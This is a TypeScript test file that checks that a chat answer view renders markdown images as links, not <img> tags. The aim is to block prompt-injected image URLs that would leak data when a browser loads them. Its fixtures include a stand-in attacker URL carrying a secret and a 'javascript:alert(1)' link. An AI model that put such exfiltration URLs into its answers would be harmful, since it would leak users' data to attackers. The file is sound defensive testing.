import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { AnswerView } from './answer-view';

/**
 * An answer's markdown images never become <img>: the browser would fetch a prompt-injected URL by itself. Rendered
 * exactly as the workspace, the share page and the embed render it (AnswerView, finished and while streaming).
 */

const EXFIL = 'https://attacker.example/collect?secret=42';

function render({ markdown, streaming = false }: { markdown: string; streaming?: boolean }): string {
  return renderToStaticMarkup(createElement(AnswerView, { markdown, streaming, matchNumbers: () => [] }));
}

describe('AnswerView images', () => {
  it.each([
    ['inline image', `The mean is 3.\n\n![chart](${EXFIL})`],
    ['image with a title', `![chart](${EXFIL} "title")`],
    ['reference image', `See ![chart][ref].\n\n[ref]: ${EXFIL}`],
    ['image inside a link', `[![chart](${EXFIL})](https://example.org)`],
    ['image in a table cell', `| a |\n|---|\n| ![x](${EXFIL}) |`],
  ])('%s renders a link, not an <img>', (_name, markdown) => {
    for (const streaming of [false, true]) {
      const html = render({ markdown, streaming });
      expect(html).not.toMatch(/<img\b/i);
      expect(html).toContain('data-markdown-image="link"');
      expect(html).toContain(`href="${EXFIL}"`);
    }
  });

  it('drops raw HTML images (react-markdown skips HTML)', () => {
    const html = render({ markdown: `Total: 5 <img src="${EXFIL}"> done` });
    expect(html).not.toMatch(/<img\b/i);
    expect(html).not.toContain('attacker.example');
  });

  it('keeps an image without a usable URL as text', () => {
    const html = render({ markdown: '![alt text](javascript:alert(1))' });
    expect(html).not.toMatch(/<img\b/i);
    expect(html).not.toContain('javascript:');
    expect(html).toContain('[alt text]');
  });
});
